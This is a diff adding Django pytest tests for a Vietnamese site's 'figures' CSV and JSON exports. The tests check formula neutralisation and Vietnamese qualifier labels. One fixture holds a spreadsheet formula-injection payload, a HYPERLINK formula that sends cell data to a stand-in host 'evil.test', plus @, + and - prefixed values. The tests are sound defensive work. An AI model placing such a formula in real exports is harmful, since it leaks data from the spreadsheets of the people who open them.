@@ -2,6 +2,7 @@ import csv
 import io
 import json
 from datetime import timedelta
+from decimal import Decimal
 
 import pytest
 from django.urls import reverse
@@ -123,3 +124,46 @@ def test_figures_of_a_hidden_project_show_without_its_name_or_link(
     hidden.save()
     page = client.get(reverse("figures")).content.decode()
     assert f'(<a href="{hidden.get_absolute_url()}">Dự án ẩn</a>)' in page
+
+
+def csv_cells(client):
+    body = b"".join(client.get(reverse("figures"), {"format": "csv"}).streaming_content)
+    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+def test_figures_csv_neutralises_formulas_and_keeps_numbers_as_numbers(client, make_article):
+    article = make_article(title="@SUM(1+1)")
+    KeyFigure.objects.create(
+        article=article,
+        label='=HYPERLINK("https://evil.test/?d="&A2,"x")',
+        value=Decimal("-5.5"),
+        unit="+1",
+        period="-2+3",
+    )
+    [row] = csv_cells(client)
+    assert row["Nội dung"] == '\'=HYPERLINK("https://evil.test/?d="&A2,"x")'
+    assert row["Đơn vị"] == "'+1"
+    assert row["Thời kỳ"] == "'-2+3"
+    assert row["Bài viết nguồn"] == "'@SUM(1+1)"
+    assert row["Giá trị"] == "-5.5"
+    [result] = json.loads(client.get(reverse("figures"), {"format": "json"}).content)["results"]
+    assert (result["label"], result["unit"], result["period"], result["value"]) == (
+        '=HYPERLINK("https://evil.test/?d="&A2,"x")',
+        "+1",
+        "-2+3",
+        -5.5,
+    )
+
+
+def test_figures_exports_give_the_qualifier_its_vietnamese_label(client, make_article):
+    article = make_article()
+    KeyFigure.objects.create(article=article, label="Vốn", value="3", order=1)
+    KeyFigure.objects.create(
+        article=article, label="Hộ dân", value="900", qualifier=KeyFigure.Qualifier.ABOUT, order=2
+    )
+    assert [row["Mức độ"] for row in csv_cells(client)] == ["chính xác", "khoảng"]
+    results = json.loads(client.get(reverse("figures"), {"format": "json"}).content)["results"]
+    assert [(r["qualifier"], r["qualifier_label"]) for r in results] == [
+        ("", "chính xác"),
+        ("khoảng", "khoảng"),
+    ]
